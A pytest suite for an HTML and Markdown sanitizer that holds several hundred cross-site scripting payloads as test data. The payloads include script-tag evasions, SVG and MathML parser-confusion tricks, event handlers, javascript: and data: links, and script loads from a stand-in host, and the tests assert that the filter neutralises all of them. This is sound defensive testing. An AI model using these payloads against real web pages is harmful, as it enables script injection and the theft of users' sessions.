"""
Payloads of every family through the answer filter, judged by a parser that reads HTML as browsers do.

`html` mode is parsed as it is. `markdown` mode is rendered first, by a CommonMark renderer that lets HTML
pass, which is the worst that a caller can do with it.
"""

import re
from dataclasses import replace
from itertools import product

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sanitization.markup import ALLOWED, MAX_UNUSUAL, UNUSUAL, bleached, clean
from sanitization.policies import Policy
from tests.sanitization.samples import screen

MODES = {"markdown": Policy(), "html": Policy(html="html")}
RENDERERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
]
# What a renderer makes itself, and what html5lib adds around a fragment.
OWN = frozenset(["pre", "img", "table", "thead", "tbody", "tr", "th", "td", "s", "html", "head", "body"])

JS = "alert(1)"
SCRIPTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script >{JS}</script >",
    f"<script\n>{JS}</script\n>",
    f"<script\t>{JS}</script\t>",
    f"<script\x0c>{JS}</script>",
    f"<script/x>{JS}</script>",
    f"<script\x00>{JS}</script>",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<scr\u200bipt>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>{JS};//<</script>",
    f"<script<b>{JS}</script>",
    f"<sCrIpT src=//x.example></ScRiPt>{JS}",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<script>{JS}",
    f"<script>{JS}//",
    f"<script x> {JS} </script 1=2",
    f'<script a=">" SRC="//x.example/x.js"></script>{JS}',
    f"</script><script>{JS}</script>",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"<script>{JS}</script",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<script type=module>import('//x.example')</script>",
    '<script type="importmap">{"imports":{"a":"//x.example"}}</script>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><title><style><b title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=alert(1)>']]></svg>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><style><a title='</style><script>alert(1)</script>'></math>",
    "<p><svg><p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<xml:namespace prefix='t'><import namespace='t' implementation='#default#time2'>",
    "<t:set attributeName='innerHTML' to='&lt;img src=x onerror=alert(1)&gt;'>",
    "<html xmlns:xss><?import namespace='xss' implementation='//x.example/x.htc'><xss:xss>x</xss:xss></html>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x'onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
    "<image src=x onerror=alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<picture><source srcset=x><img onerror=alert(1)></picture>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details ontoggle='alert(1)' open><summary onclick=alert(1)>x</summary></details>",
    "<details/open/ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video onerror=alert(1)><source></video>",
    "<video src=x onloadstart=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<div onpointerover=alert(1)>x</div>",
    "<div/onmouseover=alert(1)/>x",
    "<div style=width:1px;filter:glow onfilterchange=alert(1)>x",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<p tabindex=0 onfocus=alert(1) id=x>x</p>",
    "<p popover onbeforetoggle=alert(1)>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<b\x0bonmouseover=alert(1)>x</b>",
    "<b\x0conmouseover=alert(1)>x</b>",
    "<b\nonmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<b/ onmouseover = 'alert(1)'>x</b>",
    "<b a='\"' onmouseover=\"alert(1)'\">x</b>",
    "<b a=\"'\" onmouseover='alert(1)\"'>x</b>",
    "<b a=x\u00a0onmouseover=alert(1)>x</b>",
    "<b =onmouseover=alert(1)>x</b>",
    "<b x=1onmouseover=alert(1) onmouseover=alert(1)>x</b>",
    "<b onmouseover=alert&lpar;1&rpar;>x</b>",
    "<xss onpointerenter=alert(1) style=display:block>x</xss>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=https://x.example onclick=alert(1)>x</a>",
    "<a href='https://x.example'onclick=alert(1)>x</a>",
    "<a href=https://x.example/'onclick=alert(1)//>x</a>",
    '<a href="https://x.example/"onclick=alert(1)//">x</a>',
    "<a href=https://x.example/\x0conclick=alert(1)>x</a>",
    "<a href=https://x.example/\nonclick=alert(1)>x</a>",
    '<a href="https://x.example/&quot;onclick=alert(1)">x</a>',
    '<a href="https://x.example/&#34; onclick=&#34;alert(1)">x</a>',
    "<https://x.example/onclick=alert(1)>",
    "<https://x.example/ onclick=alert(1)>",
    "<https://x.example/\"onclick='alert(1)'>",
    "<a@x.example/onclick=alert(1)>",
    "<mailto:x@x.example onclick=alert(1)>",
]
ELEMENTS = [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type='text/x-scriptlet' data='//x.example'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code='//x.example/x.swf' allowscriptaccess=always>",
    "<applet code=x archive=//x.example></applet>",
    "<base href='javascript:alert(1)//'>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<link rel=preload as=script href=//x.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>@import '//x.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<STYLE TYPE=text/css>x{a:expression(alert(1))}</STYLE>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<div style='behavior:url(//x.example/x.htc)'>x</div>",
    "<span style='position:fixed;inset:0;z-index:9'>x</span>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=f></form><button form=f formaction=//x.example>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea><b title='</textarea><script>alert(1)</script>'>",
    "<title></title><script>alert(1)</script>",
    "<title><b title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<noembed><p title='</noembed><script>alert(1)</script>'>",
    "<noframes><p title='</noframes><script>alert(1)</script>'>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<table background=javascript:alert(1)><td background=x></table>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//x.example></layer>",
    "<dialog open><form method=dialog>x</form></dialog>",
    "<portal src=//x.example>",
    "<fencedframe></fencedframe><slot name=x onslotchange=alert(1)>",
    "<track src=x><param name=x value=javascript:alert(1)>",
    "<area href=javascript:alert(1)><map name=x>",
]
DECLARATIONS = [
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<!-- unclosed <script>alert(1)</script>",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[ ]]><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<!x><script>alert(1)</script>",
    "<!><script>alert(1)</script>",
    "<!ELEMENT x><img src=x onerror=alert(1)>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<? foo='><script>alert(1)</script>'>",
    "</ x='><script>alert(1)</script>'>",
    "</><script>alert(1)</script>",
    "</%0a><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1)</script -->",
    "<//a><img src=x onerror=alert(1)>",
    "</b onmouseover=alert(1)>x",
    "</p><p></br><br onclick=alert(1)>",
]
TARGETS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\0script:alert(1)",
    "java\x08script:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript\u200b:alert(1)",
    "\uff4aavascript:alert(1)",
    "javascript:123",
    "javascript://https://x.example/%0aalert(1)",
    "javascript:https://x.example",
    "jav&#x0A;ascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:x",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://x.example/1",
    "filesystem:https://x.example/1",
    "file:///etc/passwd",
    "ftp://x.example",
    "tel:1",
    "ms-settings:x",
    "intent://x#Intent;end",
    "//x.example",
    "/\\x.example",
    "\\\\x.example",
    "relative",
    "#x",
    "?x",
    "https:javascript:alert(1)",
    "https&colon;//x.example",
    "http&#58;//x.example",
    "ht\ttps://x.example",
    "x:https://x.example",
]
LINKS = [
    *(f'<a href="{target}">x</a>' for target in TARGETS),
    *(f"<a href='{target}'>x</a>" for target in TARGETS),
    *(f"<a href={target}>x</a>" for target in TARGETS if " " not in target),
    *(f"<A  x=y HREF = {target} >x</A>" for target in TARGETS[::4]),
    *(f"<a href=https://ok.example href={target}>x</a>" for target in TARGETS[::6]),
    *(f"<a href={target} href=https://ok.example>x</a>" for target in TARGETS[::6]),
    *(f"<a xlink:href='{target}' ping='{target}' target=_blank>x</a>" for target in TARGETS[::8]),
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](x 'onerror=alert(1)')",
    '![x" onerror="alert(1)](https://x.example)',
    '[x](https://x.example "x" onclick=alert(1))',
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "[x](<https://x.example/<script>alert(1)</script>>)",
    "<javascript:alert(1)>",
    "<javascript:alert&#40;1&#41;>",
    "<data:text/html,x>",
    "`<img src=x onerror=alert(1)>",
    "``<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "`\n\n<img src=x onerror=alert(1)>`",
    "[`](x)<img src=x onerror=alert(1)>`",
    "<b title=`><img src=x onerror=alert(1)>`>",
    "    <img src=x onerror=alert(1)>",
    "\t<img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| `a | <img src=x onerror=alert(1)>` |\n|---|---|",
    "~~~\n~~~\n<img src=x onerror=alert(1)>",
    "```\n```\n<img src=x onerror=alert(1)>\n```",
    "``` `\n<img src=x onerror=alert(1)>\n```",
    "<div>\n```\n<img src=x onerror=alert(1)>\n```\n",
    "<pre>\n```\n<img src=x onerror=alert(1)>\n```\n</pre>",
    "<!--\n```\n-->\n<img src=x onerror=alert(1)>\n```",
    "# `<img src=x onerror=alert(1)>\n`",
    "x\n===\n<img src=x onerror=alert(1)>",
    "[^1]: <img src=x onerror=alert(1)>\n\n[^1]",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
]
PAYLOADS = list(dict.fromkeys(SCRIPTS + FOREIGN + HANDLERS + ELEMENTS + DECLARATIONS + LINKS + MARKDOWN))

# What may stand around a payload and change how it is read.
FRAMES = [
    "{}",
    "Some text\n\n{}\n\nand more `<b>` {}",
    '<a href="https://x.example">{}</a>',
    "<b>\n{}\n</b>",
    '"{}"',
    "<a title='{}'>",
    "- `{}\n- {}`",
    "```\n{}\n",
    "```\n{}\n```\n{}",
    "> ```\n> {}\n\n{}",
    "<ul><li>{}",
    "a < b {} c > d",
    "a<b && {}",
    "x<y) onclick=alert(1)> {}",
]


def stripped(target: str) -> str:
    """A link's target as a browser reads its beginning: without blanks and controls (WHATWG URL)."""
    return re.sub(r"[\x00-\x20]", "", target).lower()


def dangers(html: str, *, rendered: bool) -> list[str]:
    """Everything in the tree that is not on the allow-list: elements, attributes, schemes, comments."""
    trees = [
        html5lib.parse(html, namespaceHTMLElements=False),
        html5lib.parseFragment(html, container="div", namespaceHTMLElements=False, scripting=True),
    ]
    return [fault for tree in trees for one in tree.iter() for fault in _faults(one, rendered=rendered)]


def _faults(element, *, rendered):
    tag = element.tag
    if tag == "DOCUMENT_FRAGMENT":
        return
    if not isinstance(tag, str) or tag not in ALLOWED | OWN or (tag == "img" and not rendered):
        yield str(tag)
    for name, value in element.attrib.items():
        target = stripped(value)
        if name == "href" and not rendered:
            if not target.startswith(("http://", "https://", "mailto:")):
                yield value
        elif name in ("href", "src") and rendered:  # relative ones are the renderer's to allow
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", target)
            if scheme and scheme[0] not in ("http:", "https:", "mailto:", "ftp:", "tel:"):
                yield value
        elif not rendered or name not in ("alt", "title", "class", "start", "align", "style"):
            yield name
        elif name == "style" and not re.fullmatch(r"text-align:(?:left|center|right)", target):
            yield value


def assert_harmless(text: str) -> None:
    cleaned = screen(text, policy=MODES["html"])[0]
    assert dangers(cleaned, rendered=False) == [], cleaned
    cleaned = screen(text)[0]
    for renderer in RENDERERS:
        assert dangers(renderer.render(cleaned), rendered=True) == [], cleaned


def test_there_are_payloads_enough_and_the_parser_sees_them():
    assert len(PAYLOADS) > 300
    seen = [
        payload for payload in SCRIPTS + FOREIGN + HANDLERS + ELEMENTS if dangers(payload, rendered=False)
    ]
    assert len(seen) > 0.9 * len(SCRIPTS + FOREIGN + HANDLERS + ELEMENTS)
    assert sum(bool(dangers(link, rendered=False)) for link in LINKS) > 0.9 * len(LINKS)


@pytest.mark.parametrize("frame", FRAMES)
def test_no_payload_does_anything_wherever_it_stands(frame):
    for payload in PAYLOADS:
        assert_harmless(frame.replace("{}", payload))


@pytest.mark.parametrize("mode", MODES)
def test_cleaning_what_is_clean_changes_nothing(mode):
    for frame, payload in product(FRAMES, PAYLOADS):
        once = screen(frame.replace("{}", payload), policy=MODES[mode])[0]
        assert screen(once, policy=MODES[mode]) == (once, (), False)


@pytest.mark.parametrize("mode", MODES)
def test_a_payload_that_is_cut_anywhere_is_cleaned_the_same(mode):
    for payload in PAYLOADS:
        text = f"a `x` {payload} b"
        whole = screen(text, policy=MODES[mode])
        assert screen(*text, policy=MODES[mode]) == whole
    for payload in PAYLOADS[::4]:
        text = f"a `x` {payload} b"
        whole = screen(text, policy=MODES[mode])
        for cut in range(len(text) + 1):
            assert screen(text[:cut], text[cut:], policy=MODES[mode]) == whole


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*PAYLOADS, "`", "```", "\n", "\n\n", "> ", "- ", "'", '"', "<b>"]), max_size=6)
)
def test_payloads_in_a_row_do_not_help_each_other(payloads):
    assert_harmless("".join(payloads))


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "text",
    [
        "AT&T",
        "AT&T; R&D &c. &copy &amp; &lt;b&gt;",
        "a < b",
        "a <b and c> d".replace("<b", "< b"),
        "x -> y <- z <= 1 << 2",
        "1<2 and 3>2, <3, <-- no comment, <=>",
        "if (a< b && c>d) return;",
        "He said \"no\" & 'yes'",
        "5 > 4\n> quoted",
        '<b>bold</b> <a href="https://x.example/?a=1&amp;b=2#c">x</a><br>',
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd caf\u00e9 \U0001f600",
    ],
)
def test_a_text_without_dangerous_markup_stays_byte_for_byte(mode, text):
    assert screen(text, policy=replace(MODES[mode], links="any")) == (text, (), False)


@pytest.mark.parametrize(
    "text", ["if (a<b && c>d)", "for (i=0; i<n; i++)", "f(a<b)", "x[1]<y || z>1", "(a)<b - c>d", "1<x, y>2"]
)
def test_a_comparison_is_no_tag_to_markdown_and_text_to_a_browser(text):
    """A browser takes `<b && c>` for a tag, so in `html` mode its `<` is written as a reference."""
    assert screen(text) == (text, (), False)
    assert screen(*text) == (text, (), False)
    cleaned = screen(text, policy=MODES["html"])[0]
    assert "".join(html5lib.parseFragment(cleaned).itertext()) == text


@pytest.mark.parametrize(
    "text",
    [
        "<b>x</b>\na<x)y onclick=alert(1)>",  # an HTML block may be open
        "a<x y onclick=alert(1)>",
        "a<x/onclick=alert(1)>",
        "- <x)y onclick=alert(1)>",
        "(<x)y onclick=alert(1)>",
        "a<x\n&& onclick=alert(1)>",
    ],
)
def test_what_might_not_be_a_comparison_is_none(text):
    assert "&lt;x" in screen(text)[0]


HREFS = st.text(alphabet="abz/&;=#?%.:@-_+,!*()'lt g1", max_size=20).map("https://x.example/{}".format)


@settings(max_examples=500, deadline=None)
@given(href=HREFS, quote=st.sampled_from(['"', "'"]), more=st.sampled_from(["", " class=x", " HREF=y"]))
def test_a_link_that_bleach_is_not_asked_about_is_what_bleach_makes_of_it(href, quote, more):
    tag = f"<a href={quote}{href}{quote}{more}>"
    if clean(tag) not in (UNUSUAL, None):
        assert clean(tag) == bleached(tag)


@pytest.mark.parametrize(
    "tag", ["<b x=1>", "<b/>", "<br x/>", "<P CLASS='a b'>", "<li onclick=x>", "<a b=c>"]
)
def test_a_tag_without_links_is_what_bleach_makes_of_it(tag):
    assert clean(tag) == bleached(tag)


def test_bleach_is_not_asked_for_ever():
    links = [f'<a href="https://x.example/[{number}]">' for number in range(MAX_UNUSUAL + 2)]
    assert screen("".join(links))[0] == "".join(links[:MAX_UNUSUAL]) + "<a><a>"
    assert screen(*"".join(links))[0] == "".join(links[:MAX_UNUSUAL]) + "<a><a>"
